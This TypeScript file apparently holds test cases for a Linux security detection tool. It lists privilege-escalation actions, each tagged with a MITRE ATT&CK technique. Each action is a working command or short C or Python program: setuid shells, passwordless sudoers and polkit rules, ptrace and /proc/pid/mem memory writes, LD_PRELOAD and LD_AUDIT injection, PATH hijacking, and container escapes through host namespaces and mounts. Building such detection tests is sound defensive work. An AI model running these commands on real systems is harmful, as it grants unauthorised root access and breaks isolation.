import type { Action } from '../action.ts'
import { sleepingVictim } from '../loopback-server.ts'

const tracer = `
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>
int main(int n, char **v) {
  pid_t p = atoi(v[1]);
  if (ptrace(PTRACE_ATTACH, p, 0, 0)) return 1;
  waitpid(p, 0, 0);
  long w = ptrace(PTRACE_PEEKDATA, p, (void *)strtoul(v[2], 0, 16), 0);
  if (ptrace(PTRACE_POKEDATA, p, (void *)strtoul(v[2], 0, 16), w)) return 2;
  return ptrace(PTRACE_DETACH, p, 0, 0) != 0;
}`

const vmWriter = `
#define _GNU_SOURCE
#include <stdlib.h>
#include <sys/uio.h>
int main(int n, char **v) {
  char word[8];
  struct iovec here = {word, 8}, there = {(void *)strtoul(v[2], 0, 16), 8};
  if (process_vm_readv(atoi(v[1]), &here, 1, &there, 1, 0) != 8) return 1;
  return process_vm_writev(atoi(v[1]), &here, 1, &there, 1, 0) != 8;
}`

/** Process and an address of it that can be written. */
const target = '$(cat /run/victim) $(sed -n "/rw-p/{s/-.*//p;q}" /proc/$(cat /run/victim)/maps)'

const library = `cat >/home/ann/x.c <<'END'
#include <stdio.h>
__attribute__((constructor)) static void start(void) { fclose(fopen("/run/owned", "w")); }
END
gcc -shared -fPIC -o /home/ann/x.so /home/ann/x.c`

const userfault = `
#include <sys/syscall.h>
#include <unistd.h>
int main() { return syscall(SYS_userfaultfd, 0) < 0; }`

/** More rights, other processes, other namespaces. */
export const privilegeEscalation: readonly Action[] = [
  {
    id: 'set-id-chmod',
    title: 'Shell with the rights of root',
    technique: 'T1548.001',
    run: 'cp /bin/sh /opt/sh; chmod u+s /opt/sh',
    effect: '[ -u /opt/sh ]',
  },
  {
    id: 'set-id-octal',
    title: 'The same by install with a number',
    technique: 'T1548.001',
    run: 'install -m 4755 /bin/sh /opt/sh',
    effect: '[ -u /opt/sh ]',
  },
  {
    id: 'set-id-python',
    title: 'The same by a Python program',
    technique: 'T1548.001',
    program: {
      language: 'python',
      text: 'import os, shutil\nshutil.copy("/bin/sh", "/opt/sh")\nos.chmod("/opt/sh", 0o6755)',
    },
    run: 'python3 $PROGRAM',
    effect: '[ -u /opt/sh ]',
  },
  {
    id: 'set-id-perl',
    title: 'The same by Perl code in an argument',
    technique: 'T1548.001',
    run: 'cp /bin/sh /opt/sh; perl -e \'chmod 04755, "/opt/sh"\'',
    effect: '[ -u /opt/sh ]',
  },
  {
    id: 'set-id-c',
    title: 'The same by a compiled program',
    technique: 'T1548.001',
    before: 'cp /bin/sh /opt/sh',
    program: {
      language: 'c',
      text: '#include <fcntl.h>\n#include <sys/stat.h>\nint main() { return fchmod(open("/opt/sh", 0), 04755); }',
    },
    run: '$PROGRAM',
    effect: '[ -u /opt/sh ]',
  },
  {
    id: 'set-id-busybox',
    title: 'The same by a renamed busybox',
    technique: 'T1548.001',
    shell: 'busybox',
    run: 'cp /bin/sh /opt/sh; cp /home/ann/busybox /tmp/chmod; /tmp/chmod 4755 /opt/sh',
    effect: '[ -u /opt/sh ]',
  },
  {
    id: 'file-capability',
    title: 'Capability given to an interpreter',
    technique: 'T1548.001',
    needs: ['setcap'],
    run: 'cp /usr/bin/perl /opt/p; setcap cap_setuid+ep /opt/p',
    effect: 'getcap /opt/p | grep -q cap_setuid',
  },
  {
    id: 'file-capability-python',
    title: 'Capability given to a file by a Python program',
    technique: 'T1548.001',
    before: 'cp /bin/sh /opt/sh',
    program: {
      language: 'python',
      text: 'import os, struct\nos.setxattr("/opt/sh", "security.capability", struct.pack("<5I", 0x02000001, 1 << 7, 0, 0, 0))',
    },
    run: 'python3 $PROGRAM',
    needs: ['getcap'],
    effect: 'getcap /opt/sh | grep -q cap_setuid',
  },
  {
    id: 'sudo-rule',
    title: 'Rule for sudo without a password',
    technique: 'T1548.003',
    run: "mkdir -p /etc/sudoers.d; echo 'ann ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/a",
    effect: 'grep -q NOPASSWD /etc/sudoers.d/a',
  },
  {
    id: 'sudo-rule-by-tee',
    title: 'The same by tee',
    technique: 'T1548.003',
    run: "echo 'ann ALL=(ALL) NOPASSWD: ALL' | tee -a /etc/sudoers",
    effect: 'grep -q NOPASSWD /etc/sudoers',
  },
  {
    id: 'polkit-rule',
    title: 'Rule for polkit',
    technique: 'T1548.003',
    program: {
      language: 'python',
      text: 'import os\nos.makedirs("/etc/polkit-1/rules.d", exist_ok=True)\nopen("/etc/polkit-1/rules.d/00-a.rules", "w").write("polkit.addRule(() => \'yes\')")',
    },
    run: 'python3 $PROGRAM',
    effect: '[ -s /etc/polkit-1/rules.d/00-a.rules ]',
  },
  {
    id: 'sudo-list',
    title: 'Rights by sudo listed, and used',
    technique: 'T1548.003',
    needs: ['sudo'],
    run: 'sudo -n -l >/dev/null; sudo -n id',
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'trace-c',
    title: 'Memory of a process changed by ptrace',
    technique: 'T1055.008',
    before: sleepingVictim,
    program: { language: 'c', text: tracer },
    run: `$PROGRAM ${target}`,
  },
  {
    id: 'trace-gdb',
    title: 'Call in a process by a debugger',
    technique: 'T1055.008',
    needs: ['gdb'],
    before: sleepingVictim,
    run: 'gdb -q -batch -p $(cat /run/victim) -ex "print getpid()" -ex "call (int)getuid()" </dev/null',
    effect: 'grep -q "Inferior\\|\\$1\\|attach" $OUT',
  },
  {
    id: 'memory-file-python',
    title: 'Memory of a process changed by its file in /proc',
    technique: 'T1055.009',
    before: sleepingVictim,
    program: {
      language: 'python',
      text: 'import sys\nf = open("/proc/%s/mem" % sys.argv[1], "r+b", 0)\nat = int(sys.argv[2], 16)\nf.seek(at); w = f.read(8); f.seek(at); f.write(w)',
    },
    run: `python3 $PROGRAM ${target}`,
  },
  {
    id: 'memory-file-dd',
    title: 'The same by dd',
    technique: 'T1055.009',
    before: sleepingVictim,
    run: `set -- ${target}
printf x | dd of=/proc/$1/mem bs=1 seek=$((0x$2)) conv=notrunc`,
  },
  {
    id: 'memory-call-c',
    title: 'Memory of a process changed by process_vm_writev',
    technique: 'T1055',
    before: sleepingVictim,
    program: { language: 'c', text: vmWriter },
    run: `$PROGRAM ${target}`,
  },
  {
    id: 'preload-in-command',
    title: 'Library preloaded by the environment',
    technique: 'T1574.006',
    needs: ['gcc'],
    before: library,
    run: 'LD_PRELOAD=/home/ann/x.so /usr/bin/id',
    effect: '[ -e /run/owned ]',
    blind: 'the environment is no field of the rules by default',
  },
  {
    id: 'preload-by-env',
    title: 'Library preloaded by env',
    technique: 'T1574.006',
    needs: ['gcc'],
    before: library,
    run: 'env LD_PRELOAD=/home/ann/x.so /usr/bin/id',
    effect: '[ -e /run/owned ]',
  },
  {
    id: 'audit-library',
    title: 'Library for the audit of the dynamic linker',
    technique: 'T1574.006',
    needs: ['gcc'],
    before: `${library}
echo 'unsigned la_version(unsigned v) { return v; }' >>/home/ann/x.c
gcc -shared -fPIC -o /home/ann/x.so /home/ann/x.c`,
    run: 'export LD_AUDIT=/home/ann/x.so; /usr/bin/id',
    effect: '[ -e /run/owned ]',
    blind: 'the environment is no field of the rules by default',
  },
  {
    id: 'linker-tunables',
    title: 'Overlong tunables of the dynamic linker',
    technique: 'T1068',
    run: 'env GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A /usr/bin/su --help >/dev/null',
  },
  {
    id: 'search-path',
    title: 'Program of a folder in front of the search path',
    technique: 'T1574.007',
    run: "mkdir /tmp/b; printf '#!/bin/sh\\nid >/run/owned\\n' >/tmp/b/ls; chmod 755 /tmp/b/ls; PATH=/tmp/b:$PATH; ls",
    effect: '[ -s /run/owned ]',
  },
  {
    id: 'page-faults',
    title: 'Page faults handled by a program',
    technique: 'T1068',
    program: { language: 'c', text: userfault },
    run: '$PROGRAM',
  },
  {
    id: 'user-namespace',
    title: 'User namespace with the rights of root in it',
    technique: 'T1611',
    as: 'ann',
    run: 'unshare -Ur sh -c id',
    effect: 'grep -q uid=0 $OUT',
  },
  {
    id: 'user-namespace-c',
    title: 'The same by a compiled program',
    technique: 'T1611',
    as: 'ann',
    program: {
      language: 'c',
      text: '#define _GNU_SOURCE\n#include <sched.h>\nint main() { return unshare(CLONE_NEWUSER | CLONE_NEWNS); }',
    },
    run: '$PROGRAM',
  },
  {
    id: 'enter-namespaces',
    title: 'Namespaces of the first process entered',
    technique: 'T1611',
    run: 'nsenter -t 1 -m -u -n -i id',
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'enter-namespaces-python',
    title: 'The same by a Python program',
    technique: 'T1611',
    program: {
      language: 'python',
      text: 'import ctypes, os\nf = os.open("/proc/1/ns/mnt", 0)\nr = ctypes.CDLL(None).setns(f, 0)\nprint("entered" if r == 0 else r)',
    },
    run: 'python3 $PROGRAM',
    effect: 'grep -q entered $OUT',
  },
  {
    id: 'root-of-first-process',
    title: 'Root folder of the first process entered',
    technique: 'T1611',
    run: 'chroot /proc/1/root /bin/sh -c id',
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'device-node',
    title: 'Node of a disk created',
    technique: 'T1611',
    run: 'mknod /home/ann/disk b 7 250',
    effect: '[ -b /home/ann/disk ]',
  },
  {
    id: 'crash-handler',
    title: 'Program that the kernel starts at crashes (same value)',
    technique: 'T1611',
    run: 'read -r line </proc/sys/kernel/core_pattern; echo "$line" >/proc/sys/kernel/core_pattern',
  },
  {
    id: 'module-handler',
    title: 'Program that the kernel starts for modules (same value)',
    technique: 'T1611',
    requires: '[ -e /proc/sys/kernel/modprobe ] || { echo no modules; false; }',
    run: 'read -r line </proc/sys/kernel/modprobe; echo "$line" >/proc/sys/kernel/modprobe',
  },
  {
    id: 'release-agent',
    title: 'Program that control groups start',
    technique: 'T1611',
    omitted: 'would change the control groups of the machine',
    run: 'mount -t cgroup -o rdma cgroup /tmp/c; echo /opt/x >/tmp/c/release_agent',
  },
  {
    id: 'runtime-socket-shell',
    title: 'Folder with the root of the host mounted',
    technique: 'T1611',
    run: 'mkdir /mnt/host 2>/dev/null || mkdir -p /tmp/host; mount --bind / /tmp/host || mount --bind / /mnt/host; chroot $( [ -d /tmp/host/etc ] && echo /tmp/host || echo /mnt/host) id',
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'become-user',
    title: 'Shell of another user by su',
    technique: 'T1078.003',
    needs: ['su'],
    run: 'su ann -c id',
    effect: 'grep -q ann $OUT',
  },
]
